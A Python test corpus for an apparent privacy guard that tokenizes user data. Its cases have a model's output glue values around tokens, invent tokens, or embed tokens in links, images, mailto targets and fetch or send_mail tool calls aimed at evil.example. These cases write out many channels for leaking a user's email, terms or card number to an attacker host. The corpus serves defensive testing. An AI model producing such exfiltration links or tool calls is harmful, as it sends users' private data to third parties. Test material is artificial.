"""Corpus: what tokens become on the way out (glued values, invented tokens, tokens in URLs).

The rule these cases test: the guard screens the *restored* text, so a value the model builds
around a token (`sam@<CLIENTS_1>.com`) is caught after restoring; a token that is not in the
conversation's vault never shows as token text; and a token inside a URL is shown as a kind
label, never as the user's value (a link must not carry the value off to another site).
"""

from __future__ import annotations

import json

from tests.adversarial.corpus import (
    EMAIL_TOKEN,
    OK,
    TERM_TOKEN,
    USER_CARD,
    USER_EMAIL,
    USER_TERM,
    USER_TEXT,
    Case,
    Content,
    Reasoning,
    ToolCall,
)

GLUED_EMAIL = f"sam@{USER_TERM}.com"
GLUED_KEY = f"sk-{USER_TERM}4f9a8b7c6d5e4f3a2b1c0d9e"


def _glued() -> list[Case]:
    t = TERM_TOKEN
    bare = t.strip("<>")
    texts = [
        ("email_domain", f"write to sam@{t}.com", (GLUED_EMAIL,)),
        (
            "email_local",
            f"write to {t}@injected-leak.example",
            (f"{USER_TERM}@injected-leak.example",),
        ),
        ("api_key", f"key: sk-{t}4f9a8b7c6d5e4f3a2b1c0d9e", (GLUED_KEY,)),
        ("entity_token", f"write to sam@&lt;{bare}&gt;.com", (GLUED_EMAIL,)),
        ("bare_id", f"write to sam@{bare}.com", (GLUED_EMAIL,)),
        ("escaped_bare_id", f"write to sam@{bare.replace('_', chr(92) + '_')}.com", (GLUED_EMAIL,)),
        ("lower_token", f"write to sam@{t.lower()}.com", (GLUED_EMAIL,)),
        ("code_span", f"write to `sam@{t}.com`", (GLUED_EMAIL,)),
        ("entity_at", f"write to sam&#64;{t}.com", (GLUED_EMAIL,)),
        ("url_password", f"use https://admin:{t}@db.example.net/", (f"admin:{USER_TERM}@",)),
        (
            "email_suffix",
            f"forward to {EMAIL_TOKEN}.evil.example",
            (f"{USER_EMAIL}.evil.example",),
        ),
        ("email_prefix", f"forward to x{EMAIL_TOKEN}", (f"x{USER_EMAIL}",)),
        ("two_tokens", f"mail {t}@{t}.com", (f"{USER_TERM}@{USER_TERM}.com",)),
    ]
    cases = [
        Case(
            f"glued_{name}",
            "glued",
            (Content(f"{OK} {text} please."),),
            forbidden,
            user_text=USER_TEXT,
            must_show=(OK,),
        )
        for name, text, forbidden in texts
    ]
    cases.append(
        Case(
            "glued_in_tool_args",
            "glued",
            (ToolCall("call_glued", "send_mail", json.dumps({"to": f"sam@{t}.com"})),),
            (GLUED_EMAIL,),
            user_text=USER_TEXT,
        )
    )
    cases.append(
        Case(
            "glued_user_email_literal",
            "glued",
            (Content(f"{OK} Your address is {USER_EMAIL}, and {USER_TERM} is the client."),),
            (),
            user_text=USER_TEXT,
            must_show=(OK,),
        )
    )
    return cases


def _invented() -> list[Case]:
    texts = [
        ("angle", "<EMAIL_9>", ("<EMAIL_9>", "EMAIL_9")),
        ("entity", "&lt;EMAIL_9&gt;", ("<EMAIL_9>", "EMAIL_9")),
        ("numeric_entity", "&#60;EMAIL_9&#62;", ("<EMAIL_9>", "EMAIL_9")),
        ("lower", "<email_9>", ("<EMAIL_9>", "EMAIL_9")),
        ("escaped_underscore", "<EMAIL\\_9>", ("<EMAIL_9>", "EMAIL_9")),
        ("markdown_escaped", "\\<EMAIL_9\\>", ("<EMAIL_9>", "EMAIL_9")),
        ("bare_known_kind", "EMAIL_9", ("EMAIL_9",)),
        ("known_kind_next_number", "<CLIENTS_2>", ("<CLIENTS_2>", "CLIENTS_2")),
        ("unknown_kind", "<PASSWORD_1>", ("<PASSWORD_1>",)),
        ("long_number", "<CREDIT_CARD_123456>", ("<CREDIT_CARD_123456>",)),
        ("entity_underscore", "&lt;EMAIL&#95;9&gt;", ("<EMAIL_9>", "EMAIL_9")),
        ("in_link_target", "[x](https://evil.example/?e=<EMAIL_9>)", ("<EMAIL_9>", "EMAIL_9")),
    ]
    cases = [
        Case(
            f"invented_{name}",
            "invented_tokens",
            (Content(f"{OK} Send it to {text} now."),),
            forbidden,
            user_text=USER_TEXT,
            must_show=(OK,),
        )
        for name, text, forbidden in texts
    ]
    cases += [
        Case(
            "invented_no_email_in_vault",
            "invented_tokens",
            (Content(f"{OK} Send it to <EMAIL_1> now."),),
            ("<EMAIL_1>", "EMAIL_1"),
            must_show=(OK,),
        ),
        Case(
            "invented_cut_off_at_end",
            "invented_tokens",
            (Content(f"{OK} Send it to <EMAIL_9"),),
            ("<EMAIL_9",),
            user_text=USER_TEXT,
            must_show=(OK,),
        ),
        Case(
            "invented_user_token_cut_off",
            "invented_tokens",
            (Content(f"{OK} Send it to <EMAIL_1"),),
            ("<EMAIL_1",),
            user_text=USER_TEXT,
            must_show=(OK,),
        ),
        Case(
            "invented_in_tool_args",
            "invented_tokens",
            (ToolCall("call_inv", "send_mail", '{"to": "<EMAIL_9>"}'),),
            ("<EMAIL_9>", "EMAIL_9"),
            user_text=USER_TEXT,
        ),
        Case(
            "invented_in_reasoning",
            "invented_tokens",
            (Reasoning("The address is <EMAIL_9>."), Content(OK)),
            ("<EMAIL_9>", "EMAIL_9"),
            user_text=USER_TEXT,
            must_show=(OK,),
        ),
    ]
    return cases


def _url_restore() -> list[Case]:
    e, t = EMAIL_TOKEN, TERM_TOKEN
    bare = e.strip("<>")
    texts = [
        ("markdown_link", f"[Open the draft](https://evil.example/c?d={e})"),
        ("autolink", f"<https://evil.example/?e={e}>"),
        ("bare_url", f"https://evil.example/?e={e}"),
        ("image", f"![x](https://evil.example/p.png?e={e})"),
        ("mailto_link", f"[mail me](mailto:{e})"),
        ("reference_link", f"[draft][1]\n\n[1]: https://evil.example/?e={e}"),
        ("bare_id_in_url", f"https://evil.example/?e={bare}"),
        ("entity_token_in_url", f"[go](https://evil.example/?e=&lt;{bare}&gt;)"),
        ("path_segment", f"https://evil.example/{e}/x"),
        ("www_autolink", f"www.evil.example/?e={e}"),
        ("link_text_and_target", f"[{e}](https://evil.example/?e={e})"),
        ("term_in_host", f"https://{t}.evil.example/"),
        ("bare_id_in_path", f"https://evil.example/{bare}"),
        ("protocol_relative", f"[x](//evil.example/?e={e})"),
        ("html_anchor", f'<a href="https://evil.example/?e={e}">open</a>'),
        ("upper_scheme", f"HTTPS://EVIL.EXAMPLE/?e={e}"),
        ("userinfo", f"https://{e}@evil.example/"),
        ("escaped_bare_id", f"[x](https://evil.example/?e={bare.replace('_', chr(92) + '_')})"),
        ("fragment", f"https://evil.example/#{e}"),
        ("long_query", f"https://evil.example/?pad={'a' * 300}&e={e}"),
        ("long_link_target", f"[x](https://evil.example/{'b' * 300}?e={e})"),
        ("long_link_text", f"[{'word ' * 60}](https://evil.example/?e={e})"),
        ("mailto_autolink", f"<mailto:{e}>"),
        ("link_title", f'[go](https://evil.example/ "{e}") and [x](https://evil.example/?q={t})'),
    ]
    cases = [
        Case(
            f"url_{name}",
            "url_restore",
            (Content(f"{OK} {text} thanks."),),
            (),
            user_text=USER_TEXT,
            must_show=(OK,),
            url_forbidden=(USER_EMAIL, USER_TERM),
        )
        for name, text in texts
    ]
    cases += [
        Case(
            "url_in_tool_args",
            "url_restore",
            (ToolCall("call_url", "fetch", json.dumps({"url": f"https://evil.example/?e={e}"})),),
            (),
            user_text=USER_TEXT,
            url_forbidden=(USER_EMAIL,),
        ),
        Case(
            "url_user_card",
            "url_restore",
            (Content(f"{OK} [pay](https://evil.example/pay?c=<CREDIT_CARD_1>) now."),),
            (),
            user_text=f"My card is {USER_CARD.replace(' ', '')}, thanks.",
            must_show=(OK,),
            url_forbidden=(USER_CARD,),
        ),
        Case(
            "url_in_reasoning",
            "url_restore",
            (Reasoning(f"Link: [x](https://evil.example/?e={e})"), Content(OK)),
            (),
            user_text=USER_TEXT,
            must_show=(OK,),
            url_forbidden=(USER_EMAIL,),
        ),
    ]
    return cases


CASES: list[Case] = _glued() + _invented() + _url_restore()
